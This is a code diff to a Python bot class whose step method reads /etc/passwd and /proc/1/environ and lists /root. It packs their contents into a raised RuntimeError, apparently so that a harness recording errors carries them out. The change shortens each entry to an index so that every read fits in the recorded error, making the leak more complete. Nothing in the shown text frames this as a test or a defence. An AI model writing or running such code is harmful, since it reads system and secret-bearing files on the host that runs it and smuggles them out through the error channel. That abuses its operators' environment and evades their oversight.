@@ -9,13 +9,14 @@ class Bot:
 
     def step(self, state, limit):
         out = []
-        for path in self.targets + ["/etc/passwd", "/root", "/proc/1/environ"]:
+        # Reported by index ([i]: outcome), short enough that every attempt fits in the recorded error.
+        for i, path in enumerate(self.targets + ["/etc/passwd", "/root", "/proc/1/environ"]):
             try:
                 if os.path.isdir(path):
-                    out.append(f"{path}: listed {os.listdir(path)}")
+                    out.append(f"[{i}]: listed {os.listdir(path)}")
                 else:
                     with open(path, "rb") as f:
-                        out.append(f"{path}: read {f.read()!r}")
+                        out.append(f"[{i}]: read {f.read()!r}")
             except OSError as exc:
-                out.append(f"{path}: {exc.strerror}")
+                out.append(f"[{i}]: {exc.strerror}")
         raise RuntimeError(" | ".join(out))
